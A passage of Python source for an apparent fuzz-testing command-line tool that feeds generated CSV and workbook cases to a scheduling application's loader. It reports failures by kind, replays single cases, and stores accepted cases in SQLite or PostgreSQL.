    unstorable = Counter(f.detail.split(":")[0] for f in tally.of_kind("unstorable"))
    print(f"unstorable by database: {dict(unstorable) or 0}")
    for kind in FAILURE_KINDS:
        failures = tally.of_kind(kind)
        if not failures:
            continue
        print(f"\n## {kind} (first {min(show, len(failures))} of {len(failures)})")
        for failure in failures[:show]:
            print(f"- {failure.case}: {failure.detail}")
            print(f"  faults: {'; '.join(failure.faults)}")
            print(f"  replay: {failure.replay(folder)}")


def _replay(run: Run, seed: int, only: str, keep: Path | None) -> None:
    kind, _, number = only.partition(":")
    index = int(number)
    if kind == "csv":
        case: CsvCase | WorkbookCase = run_csv_case(run, seed, index, keep)
    else:
        run.workbook = base_workbook(base_scenario(run.files))
        case = run_workbook_case(run, seed, index, keep)
    print(f"case {case.case_id}:")
    for fault in case.faults:
        print(f"  {fault.describe()} (expect {fault.expect})")
    if isinstance(case, CsvCase):
        with tempfile.TemporaryDirectory() as temporary:
            case.write(Path(temporary))
            outcome = read_outcome(lambda: load_scenario(Path(temporary)))
    else:
        with tempfile.TemporaryDirectory() as temporary:
            path = Path(temporary) / "case.xlsx"
            path.write_bytes(case.data)
            outcome = read_outcome(lambda: load_scenario(path))
    if outcome.crash:
        print(f"crash: {outcome.crash}")
    elif outcome.scenario is not None:
        print(f"accepted: {outcome.scenario.summary()}")
    for problem in outcome.problems[:40]:
        print(f"  {problem.format('zh')[:400]}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m scheduler.cli.fuzz_benchmark", description=__doc__.splitlines()[0]
    )
    parser.add_argument("folder", nargs="?", default=str(DEFAULT_SCENARIO), help="scenario folder")
    parser.add_argument("--csv-cases", type=int, default=3000, help="CSV cases in all")
    parser.add_argument("--workbook-cases", type=int, default=400, help="workbook cases in all")
    parser.add_argument("--seeds", type=int, nargs="+", default=[1, 2])
    parser.add_argument(
        "--zip-every",
        type=int,
        default=5,
        help="upload every N-th CSV case as a zip too (0: never)",
    )
    parser.add_argument(
        "--postgres", default=POSTGRES_URL, help="PostgreSQL URL (a schema is made and dropped)"
    )
    parser.add_argument(
        "--no-postgres", action="store_true", help="save accepted cases to SQLite only"
    )
    parser.add_argument("--no-store", action="store_true", help="save accepted cases nowhere")
    parser.add_argument(
        "--only-case", help="replay one case, e.g. csv:1234 or xlsx:12 (with one --seeds)"
    )
    parser.add_argument(
        "--show", type=int, default=SHOWN_PER_KIND, help="failures listed per kind"
    )
    parser.add_argument("--keep", type=Path, help="with --only-case: write the case's files here")
    args = parser.parse_args(argv)

    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="shootplan-fuzz-db-") as temporary:
        stores = [] if args.no_store else [sqlite_store(Path(temporary))]
        if not (args.no_store or args.no_postgres):
            try:
                stores.append(postgres_store(args.postgres))
            except Exception as error:
                print(f"PostgreSQL not used ({type(error).__name__}: {str(error)[:200]})")
        try:
            if args.only_case:
                run = Run(base_files(Path(args.folder)), stores, args.zip_every)
                _replay(run, args.seeds[0], args.only_case, args.keep)
                tally = run.tally
            else:
                tally = fuzz(
                    Path(args.folder),
                    args.seeds,
                    args.csv_cases,
                    args.workbook_cases,
                    stores,
                    zip_every=args.zip_every,
                )
            _report(tally, time.perf_counter() - started, stores, args.folder, args.show)
        finally:
            for store in stores:
                store.close()
    return 1 if tally.failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
